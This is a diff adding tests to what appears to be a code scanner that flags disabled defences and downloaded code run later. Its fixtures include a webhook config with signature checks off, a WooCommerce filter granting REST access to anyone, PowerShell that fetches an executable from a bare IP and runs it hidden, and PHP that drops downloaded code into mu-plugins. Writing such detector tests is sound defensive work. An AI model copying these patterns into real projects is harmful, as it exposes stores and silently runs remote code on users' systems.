@@ -166,3 +166,38 @@ test("a script's comment that only says 'bad' is no bad-example label; one that 
   has(agent('keep the pool tolerant so one bad cert does not take the wallet offline'), 'error sentinel/defence-off src/proxy.js:3');
   assert.ok(!loud(agent('BAD: never ship this, it trusts any server')).some((f) => f.includes('defence-off')));
 });
+
+test('defences off: a webhook signature check switched off in the handler config; WooCommerce REST permissions for all', () => {
+  const cfg = (verify: string) => ({ 'config/default.json': `{\n  "webhooks": {\n    "verify": ${verify},\n    "queue": "orders"\n  }\n}\n` });
+  has(cfg('false'), 'error sentinel/defence-off config/default.json:3');
+  quiet(cfg('true'));
+  quiet({ 'config/default.json': '{\n  "tls": {\n    "verify": true\n  }\n}\n' });
+  const woo = (body: string) => ({ 'headless.php': `<?php\nadd_filter( 'woocommerce_rest_check_permissions', ${body}, 99, 2 );\n` });
+  has(woo('function ( $permission, $context ) {\n\treturn true;\n}'), 'error sentinel/defence-off headless.php:2');
+  has(woo("'__return_true'"), 'error sentinel/defence-off headless.php:2');
+  quiet(woo("function ( $permission, $context ) {\n\treturn $permission && current_user_can( 'manage_woocommerce' );\n}"));
+  // (a review guide's block labelled with a cross, however long the label)
+  quiet(
+    md(
+      "❌ Opens every WooCommerce REST endpoint (orders, customers) to anonymous callers:\n\n```php\nadd_filter( 'woocommerce_rest_check_permissions', '__return_true' );\n```",
+      'Code-review guide for WooCommerce plugins: patterns seen in the wild and their fixes.',
+    ),
+  );
+});
+
+test('downloads run later: an installer saved under a Join-Path run by another script; a PHP file moved into mu-plugins', () => {
+  has(
+    {
+      'scripts/setup.ps1':
+        "$helperUrl = 'http://203.0.113.77/gdal/win/gdal-postinst.exe'\nInvoke-WebRequest -Uri $helperUrl -OutFile (Join-Path $Root 'bin\\gdal-postinst.exe') -UseBasicParsing\n",
+      'scripts/post-install.ps1':
+        "$post = Join-Path $bin 'gdal-postinst.exe'\nStart-Process -FilePath $post -ArgumentList '/quiet' -WindowStyle Hidden -Wait\n",
+    },
+    'error sentinel/download-exec scripts/setup.ps1:2',
+  );
+  const php = (dest: string) => ({
+    'src/plugin.php': `<?php\nfunction pp_install() {\n\t$src = 'https://cdn.proveedor-sync.invalid/conector/latest/conector.php';\n\t$tmp = download_url( $src, 30 );\n\t@rename( $tmp, ${dest} );\n}\n`,
+  });
+  has(php("trailingslashit( WPMU_PLUGIN_DIR ) . 'pp-conector.php'"), 'error sentinel/download-exec src/plugin.php:5');
+  quiet(php("trailingslashit( wp_upload_dir()['basedir'] ) . 'feeds/precios.csv'"));
+});
